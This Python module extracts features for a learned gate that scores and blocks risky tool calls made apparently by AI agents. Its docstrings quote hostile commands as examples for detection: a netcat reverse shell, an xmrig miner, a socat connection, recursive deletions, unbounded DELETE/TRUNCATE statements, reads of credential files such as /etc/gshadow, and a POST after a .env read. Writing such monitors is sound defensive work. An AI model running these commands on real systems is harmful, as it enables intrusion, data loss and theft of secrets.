"""The wide path's features: hashed byte n-grams of the current call and of the history.

A linear logit over these (``wide.w``, see model.py) learns from the first signals on,
while the transformer is still slow; its gradient is exact (a scatter-add). The call and
the history are hashed with different salts, so ``.env`` in the history and ``.env`` in
the call are different features, and each segment's count vector is L2-normalised on its
own, so a long history does not dilute the call. Beside the linear logit, one product
term (``wide.pair_call`` x ``wide.pair_hist``: its features in wide_pair.py, its
arithmetic, `pair_logit`, in wide_logit.py with the rest of the wide logit's) lets a
conjunction of the call's site and a file read earlier in the session -- the
history rule -- be learned from every site and every file at once.

The hash is a 64-bit multiply-xor over the n-gram's token ids (FNV-1a's constants), fully
vectorised with NumPy; it is stable across runs and machines (no Python ``hash``), so a
checkpoint's wide weights mean the same after a restart. Bucket 0 is the wide path's
bias: every source has it with value `ModelConfig.wide_bias`, 1 (0: none); an n-gram
hashing there shares it (1 in 2^18).

Training (docs/learning.md, "wide & deep"): the wide weights are NOT stepped by AdamW with
the transformer. `WideAdaGrad` (wide_learner.py) updates them from every fresh signal as
it is read, one signal at a time, by AdaGrad per bucket -- the optimiser the wide half of
Wide & Deep and the anchor use, and what lets a linear model learn from its first
signals -- with the deep logit as a fixed offset: the gradient of the joint loss with
respect to the wide weights, exact, holding the transformer still. The transformer's step
holds the wide weights still in turn (block-coordinate descent on one loss).
"""

from __future__ import annotations

import hashlib
import ipaddress
import itertools
import json
import posixpath
import re
from collections.abc import Iterable, Iterator, Sequence

import numpy as np

from .known_names import (
    PACKAGES,
    endpoint_kind,
    path_place,
    public_address,
    sensitive_file,
    url_host,
)
from .sql_statements import SQL_ROW_CHANGES, sql_statements

_FNV_OFFSET = np.uint64(0xCBF29CE484222325)
_FNV_PRIME = np.uint64(0x100000001B3)
_MIX = np.uint64(0x9E3779B97F4A7C15)


def _segment_features(ids: np.ndarray, segment: int, n_max: int,
                      buckets: int) -> tuple[np.ndarray, np.ndarray]:
    """(bucket ids, L2-normalised counts) of the 1..n_max-grams of one segment's ids."""
    length = ids.shape[0]
    hashes = []
    for n in range(1, min(n_max, length) + 1):
        salt = np.uint64(_FNV_OFFSET ^ np.uint64(n * 0x100 + segment))
        h = np.full(length - n + 1, salt, dtype=np.uint64)
        for k in range(n):
            h ^= ids[k: length - n + 1 + k]
            h *= _FNV_PRIME
        hashes.append(h)
    if not hashes:
        return np.zeros(0, np.int64), np.zeros(0, np.float64)
    h = np.concatenate(hashes) * _MIX  # spread the low bits before the modulo
    idx, counts = np.unique((h >> np.uint64(29)) % np.uint64(buckets), return_counts=True)
    val = counts.astype(np.float64)
    return idx.astype(np.int64), val / np.sqrt(np.dot(val, val))


BIAS_BUCKET = 0


def wide_features(ids: list[int], segs: list[int], n_max: int, buckets: int,
                  history_scale: float = 1.0, bias: float = 1.0
                  ) -> tuple[np.ndarray, np.ndarray]:
    """Sparse features of one encoded source: (bucket ids [K], values [K]).

    Segment 0 is the current call, segment 1 the history (SEP tokens included, so an
    n-gram can mark an entry's start). A bucket hit by both segments appears twice; the
    linear logit sums both terms, which is what a dense vector with that bucket's total
    would give. The history's values are scaled by `history_scale` (a linear model gives a
    session's previous calls less say than the call it judges), and the bias feature
    (bucket 0, value `bias`, ModelConfig.wide_bias) comes first unless `bias` is 0.
    """
    arr = np.asarray(ids, dtype=np.uint64)
    seg = np.asarray(segs)
    call, hist = (_segment_features(arr[seg == s], s, n_max, buckets) for s in (0, 1))
    head_idx, head_val = ([BIAS_BUCKET], [bias]) if bias else ([], [])
    return (np.concatenate([np.asarray(head_idx, call[0].dtype), call[0], hist[0]]),
            np.concatenate([np.asarray(head_val, np.float64), call[1], history_scale * hist[1]]))


#: At most this many distinct words / history crosses per source: a hostile 64 KiB call
#: costs a bounded amount of hashing, and real calls have far fewer (~10-40 words).
MAX_STRUCTURED = 256
_WORD = re.compile(r"[A-Za-z0-9_]+|[^A-Za-z0-9_\s]")


def _parse_call(text: str) -> tuple[str, dict]:
    """(tool, arguments) of an MCP-style call ``<tool> <JSON object>``; anything else is
    (first word, {"": the rest}), so a free-form context still gets word features."""
    tool, _, raw = text.partition(" ")
    if raw.startswith("{"):
        try:
            args = json.loads(raw)
        except (ValueError, RecursionError):
            args = None
        if isinstance(args, dict):
            return tool, args
    return tool, ({"": raw} if raw else {})


def _bucket(name: str, buckets: int) -> int:
    """A stable bucket in 1..buckets-1 (never the bias's) for a structured feature name."""
    h = int.from_bytes(hashlib.blake2b(name.encode("utf-8", "surrogatepass"),
                                       digest_size=8).digest(), "little")
    return 1 + h % (buckets - 1)


_LETTERS_OR_DIGITS = re.compile(r"[A-Za-z]+|[0-9]+")
#: A value's shape is cut at this many characters; a call's shapes at this many tokens
#: per argument.
SHAPE_CHARS, SHAPE_TOKENS = 64, 32


def _fold(text: str) -> str:
    """Every ASCII run of letters written ``a``, every run of digits ``0``, the rest kept."""
    return _LETTERS_OR_DIGITS.sub(lambda m: "a" if m.group()[0].isalpha() else "0", text)


#: A URL's authority: what follows ``scheme://`` up to the path, query, fragment or a space.
_URL_AUTHORITY = re.compile(r"(?<=://)[^/?#\s]+")


def _authority_shape(authority: str) -> str:
    """A URL authority's shape with a host *name* written ``h``, whatever its labels:
    ``docs.python.org`` and ``kubernetes.io`` are both ``h``, ``user@x.acme.io:8443`` is
    ``a@h:0``; an IP address (``0.0.0.0``) and a dotless name (``localhost`` -> ``a``)
    are folded as any value. How many labels a name has says nothing about where it
    leads, and a shape that kept them taught the gate that the allow-listed hosts' form
    (three labels) is safe: it let ``docs.djangoproject.com`` through under an allow-list
    (docs/learning.md, "A host's name in a shape")."""
    user, at, hostport = authority.rpartition("@")
    host, colon, port = hostport.rpartition(":")
    if not colon or not port.isdigit():
        host, colon, port = hostport, "", ""
    dotted_name = "." in host and not host.replace(".", "").isdigit() and "[" not in host
    return ((_fold(user) + at) + ("h" if dotted_name else _fold(host))
            + (colon + _fold(port)))


def value_shape(text: str, hosts: bool = True) -> str:
    """``text`` with every run of letters written ``a`` and every run of digits ``0``, the
    rest kept (``/home/quinn/src/beacon-portal/adapters/codec.rb`` -> ``/a/a/a/a-a/a/a.a``,
    ``nc -e /bin/sh 10.0.0.7 4444`` -> ``a -a /a/a 0.0.0.0 0``), at most SHAPE_CHARS long:
    what a value never seen before still shares with the values the gate has learned.
    With `hosts`, a URL's host name is written ``h`` (`_authority_shape`):
    ``https://docs.rs/serde#3`` -> ``a://h/a#0``."""
    if not hosts or "://" not in text:
        return _fold(text)[:SHAPE_CHARS]
    parts, pos = [], 0
    for m in _URL_AUTHORITY.finditer(text):
        parts += [_fold(text[pos:m.start()]), _authority_shape(m.group())]
        pos = m.end()
    parts.append(_fold(text[pos:]))
    return "".join(parts)[:SHAPE_CHARS]


def _string_tokens(args: dict) -> Iterator[tuple[str, list[str]]]:
    """(key, the first SHAPE_TOKENS whitespace-separated tokens of its value) of the first
    SHAPE_TOKENS arguments (a non-string value: no tokens): what the marks read, bounded
    whatever a hostile call holds."""
    for key, value in itertools.islice(args.items(), SHAPE_TOKENS):
        yield key, (value.split(maxsplit=SHAPE_TOKENS)[:SHAPE_TOKENS]
                    if isinstance(value, str) else [])


def _at_norm(names: Iterable[str], norm: float, buckets: int) -> list[tuple[int, float]]:
    """Each of `names` bucketed, of value `norm` / sqrt(count): the group's L2 norm is
    `norm` however many names a call has."""
    names = list(names)
    v = norm / np.sqrt(len(names)) if names else 0.0
    return [(_bucket(name, buckets), v) for name in names]


def structured_features(context: str, history: Sequence[str] | None, buckets: int,
                        word_scale: float, cross_scale: float, shape_scale: float = 0.0,
                        known_scale: float = 0.0, sensitive_scale: float = 0.0,
                        endpoint_scale: float = 0.0, sql_scale: float = 0.0,
                        place_scale: float = 0.0, shape_hosts: bool = True,
                        domain_scale: float = 0.0, sensitive_places: bool = False,
                        endpoint_addresses: bool = False,
                        novel_scale: float = 0.0) -> tuple[np.ndarray, np.ndarray]:
    """Features of the call's parsed arguments and of the call x its history: (idx, val).

    Why, beside the byte n-grams (measured, docs/learning.md "Structured wide features"):

    - **Argument words** ``tool|key|word`` for every word of every argument value (value
      `word_scale` / sqrt(count)): a word means something in its argument (``-rf`` in
      ``shell.exec cmd``, ``main`` in ``git.push branch``), which an n-gram across the
      JSON cannot say.
    - **History crosses** ``(tool, method) x (entry's tool, the file it touched)``: for
      each history entry with a ``path`` argument, one feature of value `cross_scale`
      naming the call's tool and HTTP method and that file's last component
      (``http.request|POST # fs.read|.env``). A linear logit is a sum, so it cannot say
      "an outbound POST AND a secret read earlier" from the two apart; the cross can.
    - **Argument shapes** ``s|tool|key|shape`` of every argument value and ``t|tool|key|
      shape`` of each of its whitespace-separated tokens (`value_shape`; at most
      SHAPE_TOKENS per argument; value `shape_scale` / sqrt(count)): a file in a project
      nobody named before (``/home/quinn/src/beacon-portal/adapters/codec.rb``) shares
      none of its words with the calls the gate learned from, but its shape with all of
      the project reads; without it the gate scored such calls by the tool's block rate
      (measured: docs/learning.md, "Argument shapes"). With `shape_hosts` a URL's host
      name is ``h`` (`_authority_shape`): its label count is no clue to its verdict.
    - **Known names** ``k|tool|key|known`` / ``k|tool|key|near``: an argument names a
      well-known package, or a token one edit away from one that is not one itself
      (known_names.py; value `known_scale` / sqrt(count)): a typosquat of a package the
      gate never saw is otherwise just another unseen word (docs/learning.md, "Known
      names").
    - **Sensitive files** ``f|tool|key|sensitive`` (value `sensitive_scale`): a token of
      the argument names a file that holds credentials by convention (known_names.py
      `sensitive_file`): an unseen credential file (``~/.docker/config.json``) shares no
      word with the trained ones. With `sensitive_places` also
      ``f|tool|key|sensitive|place`` of the same value (`path_place` of the marked token,
      ``none`` for a bare name like ``.env``): a project's ``config/secrets.yml`` is read
      freely where ``/etc/gshadow`` or ``~/.netrc`` is not, and the plain mark, shared by
      both, says neither (docs/learning.md, "Seed 4's dip at ~1,500: the call's
      sensitive mark with its place, ...").
    - **Endpoint marks** ``e|kind`` and ``e|tool|method|kind`` (value `endpoint_scale`
      each): a URL among the arguments' tokens reaches a cloud metadata service or an
      unauthenticated control port (kind ``metadata``) or a paste / file-drop host
      (``paste``; known_names.py `endpoint_kind`); the kind alone learns from every tool,
      the kind with the tool and HTTP method tells a read of a paste host from an upload:
      an endpoint the gate never saw shares no byte with the learned ones
      (docs/learning.md, "Endpoint marks"). With `endpoint_addresses` also the kind
      ``address`` for a token that holds a public IP address (known_names.py
      `public_address`: ``./xmrig -o 146.75.1.2:6666``, ``socat tcp:23.61.2.54:5555 ...``,
      any tool): a command reaching a bare address the gate never saw shared nothing
      with the reverse shells it learned (docs/learning.md, "A public address").
    - **SQL statements** ``q|tool|key|VERB`` and ``q|tool|key|VERB|where`` or ``...|all``
      for each statement (split at ``;``) of an argument that is SQL (`sql_statements`),
      and for a statement that changes or removes rows (`SQL_ROW_CHANGES`) ``q|tool|key|
      changes rows|where`` or ``...|all`` (value `sql_scale` / sqrt(count)): what a
      statement does and whether a WHERE clause limits it -- what ``delete from t_7;``
      shares with ``DELETE FROM public.users`` and ``TRUNCATE app.events`` (every row)
      and not with ``DELETE FROM users WHERE id = 3``, which no word says: a linear model
      cannot learn from a word that is absent (docs/learning.md, "SQL statements").
    - **Path places** ``l|tool|key|place`` and, in an argument of several words,
      ``l|tool|key|first word|place`` for each path-like token (known_names.py
      `path_place`: system, home-dot, parent, tmp, ...; value `place_scale` /
      sqrt(count)): where a deletion, write or read lands, which a path never seen
      (``rm --recursive --force /srv/hr``) shares with the learned ones by its place
      only (docs/learning.md, "Path places").
    - **Domains** ``d|domain`` (value `domain_scale`): where the call reaches or sends to
      (`call_destination`: the last two labels of a URL's host or a mail domain), whatever
      its tool or method. An allow list works by domain; the URL's words say it too, but
      diluted by every other word of the call, so after a policy change that allows a
      few domains and blocks the rest the gate learned the domains' verdicts slower than
      the char-n-gram anchor (docs/learning.md, "A domain key").
    - **A first-seen destination** ``d|novel`` (value `novel_scale`), right after the
      domain key, the last two entries: read only while the reading member's domain key
      is still 0 (engine/wide_logit.py `novel_values`), so it learns what calls to a
      destination never learned before are: under an allow list, blocked; a host no
      signal named shares nothing else with the outside hosts the stream showed
      (docs/learning.md, "A first-seen destination").
    """
    out: list[tuple[int, float]] = []
    tool, args = _parse_call(context)
    method = args.get("method")
    method = method if isinstance(method, str) else ""  # the HTTP method, when it has one
    if word_scale > 0:
        words: dict[str, None] = {}  # insertion-ordered set
        for key, value in args.items():
            text = value if isinstance(value, str) else json.dumps(value)
            for m in _WORD.finditer(text):
                if len(words) >= MAX_STRUCTURED:
                    break
                words.setdefault(f"w|{tool}|{key}|{m.group()}")
        out += _at_norm(words, word_scale, buckets)
    if shape_scale > 0:
        shapes: dict[str, None] = {}
        for key, value in args.items():
            if len(shapes) >= MAX_STRUCTURED:
                break  # a hostile call with thousands of arguments costs no more
            text = value if isinstance(value, str) else json.dumps(value)
            names = [f"s|{tool}|{key}|{value_shape(text, shape_hosts)}"] + [
                f"t|{tool}|{key}|{value_shape(token, shape_hosts)}"
                for token in text.split(maxsplit=SHAPE_TOKENS)[:SHAPE_TOKENS]]
            for name in names:
                if len(shapes) < MAX_STRUCTURED:
                    shapes.setdefault(name)
        out += _at_norm(shapes, shape_scale, buckets)
    if known_scale > 0:
        marks: list[str] = []  # (a key's two marks are distinct names: no duplicates)
        for key, value in itertools.islice(args.items(), SHAPE_TOKENS):  # hostile: bounded
            known, near = PACKAGES.classify(value if isinstance(value, str)
                                            else json.dumps(value), SHAPE_TOKENS)
            marks += [f"k|{tool}|{key}|known"] if known else []
            marks += [f"k|{tool}|{key}|near"] if near else []
        out += _at_norm(marks, known_scale, buckets)
    if sensitive_scale > 0:
        for key, tokens in _string_tokens(args):
            marked = [token for token in tokens if sensitive_file(token)]
            if marked:
                out.append((_bucket(f"f|{tool}|{key}|sensitive", buckets), sensitive_scale))
            if marked and sensitive_places:
                out += [(_bucket(f"f|{tool}|{key}|sensitive|{place}", buckets),
                         sensitive_scale)
                        for place in dict.fromkeys(path_place(t) or "none" for t in marked)]
    if endpoint_scale > 0:
        kinds: dict[str, None] = {}
        for _, tokens in _string_tokens(args):
            for token in tokens:
                kind = endpoint_kind(token) if "://" in token else None
                address = "address" if endpoint_addresses and public_address(token) else None
                for found in (kind, address):
                    if found is not None:
                        kinds.setdefault(f"e|{found}")
                        kinds.setdefault(f"e|{tool}|{method}|{found}")
        out += [(_bucket(name, buckets), endpoint_scale) for name in kinds]  # <= 6
    if sql_scale > 0:
        statements: dict[str, None] = {}
        for key, value in itertools.islice(args.items(), SHAPE_TOKENS):
            if isinstance(value, str):
                for verb, where in sql_statements(value)[:SHAPE_TOKENS]:
                    statements.setdefault(f"q|{tool}|{key}|{verb}")
                    statements.setdefault(f"q|{tool}|{key}|{verb}|{where}")
                    if verb in SQL_ROW_CHANGES:
                        statements.setdefault(f"q|{tool}|{key}|changes rows|{where}")
        out += _at_norm(statements, sql_scale, buckets)
    if place_scale > 0:
        places: dict[str, None] = {}
        for key, tokens in _string_tokens(args):
            for token in tokens:
                place = path_place(token)
                if place is not None:
                    places.setdefault(f"l|{tool}|{key}|{place}")
                    if len(tokens) > 1:
                        places.setdefault(f"l|{tool}|{key}|{tokens[0]}|{place}")
        out += _at_norm(places, place_scale, buckets)  # <= 2 x 9 x 32
    if cross_scale > 0 and history:
        key = f"x|{tool}|{method}#"
        crosses: dict[str, None] = {}
        for entry in history[-MAX_STRUCTURED:]:
            e_tool, e_args = _parse_call(entry)
            path = e_args.get("path")
            if isinstance(path, str) and path:
                crosses.setdefault(key + e_tool + "|" + posixpath.basename(path.rstrip("/")))
        out += [(_bucket(c, buckets), cross_scale) for c in crosses]  # <= MAX_STRUCTURED
    if domain_scale > 0 and (domain := call_destination(args)) is not None:
        out.append((_bucket("d|" + domain, buckets), domain_scale))  # last but the mark:
        if novel_scale > 0:  # `NOVEL_AT` finds the pair there
            out.append((_bucket(NOVEL_KEY, buckets), novel_scale))
    if not out:
        return np.zeros(0, np.int64), np.zeros(0, np.float64)
    return (np.fromiter((i for i, _ in out), np.int64, len(out)),
            np.fromiter((v for _, v in out), np.float64, len(out)))


def call_destination(args: dict) -> str | None:
    """Where a call sends to, as the last two labels of a host: the ``to`` argument's
    domain when it is a mail address, else the ``url`` argument's host (less user and
    port), lower-cased; an IP address whole; None when it names neither. Not the
    registrable domain (there is no public-suffix list here: ``co.uk`` is one): the org's
    hosts (``jira.acme.io``, ``ci.acme.io``) share their key, which is what the pair term
    needs."""
    to, url = args.get("to"), args.get("url")
    host = None
    if isinstance(to, str) and "@" in to:
        host = to.rsplit("@", 1)[1]
    elif isinstance(url, str) and (found := url_host(url)):
        host = found[0]
    host = (host or "").strip().strip(".").lower()
    if not host:
        return None
    try:
        return str(ipaddress.ip_address(host))  # 10.0.0.7, fd00:ec2::254: one machine
    except ValueError:
        return ".".join(host.split(".")[-2:])


#: The pair term's features in a `source_batch` ("wide_" keys: the promotion gate's
#: transformer-only forward drops every "wide_" key).
PAIR_KEYS = ("wide_pc_idx", "wide_pc_val", "wide_ph_idx", "wide_ph_val", "wide_ph_grp")


#: Where each row's byte n-grams end in ``wide_idx`` (they come first, after the bias:
#: `wide_features`), in a `source_batch` of a model that reads them scaled by their
#: familiarity (`ModelConfig.wide_familiarity`, engine/wide_logit.py `familiar_values`).
NGRAM_END = "wide_ng_end"

#: Where each row's domain key sits in ``wide_idx`` (-1: the call has no destination), its
#: first-seen mark right after it, in a `source_batch` of a model with
#: `ModelConfig.wide_novel_destinations` (engine/wide_logit.py `novel_values`).
NOVEL_AT = "wide_novel_at"
#: The first-seen destination's key (`structured_features`).
NOVEL_KEY = "d|novel"


def wide_feature_keys(batch: dict, with_pair: bool) -> tuple[str, ...]:
    """The wide features a model reads from `batch`: the n-gram ones (with where the byte
    n-grams end, when the batch carries it), and the pair term's when the model has one
    (`with_pair`) and the batch carries them."""
    return (("wide_idx", "wide_val") + ((NGRAM_END,) if NGRAM_END in batch else ())
            + ((NOVEL_AT,) if NOVEL_AT in batch else ())
            + (PAIR_KEYS if with_pair and PAIR_KEYS[0] in batch else ()))


def without_wide(batch: dict) -> dict:
    """`batch` without its wide features: a model then computes the transformer's part of
    the gate logit alone (the forward skips the wide path when `wide_idx` is absent)."""
    return {k: v for k, v in batch.items() if not k.startswith("wide_")}


def pad_features(feats: list[tuple[np.ndarray, np.ndarray]]) -> tuple[np.ndarray, np.ndarray]:
    """Rows of sparse features as dense [B, K] (bucket 0, value 0 where padded: adds 0)."""
    k = max(1, max((f[0].shape[0] for f in feats), default=0))
    idx = np.zeros((len(feats), k), dtype=np.int64)
    val = np.zeros((len(feats), k), dtype=np.float64)
    for i, (fi, fv) in enumerate(feats):
        idx[i, : fi.shape[0]] = fi
        val[i, : fv.shape[0]] = fv
    return idx, val
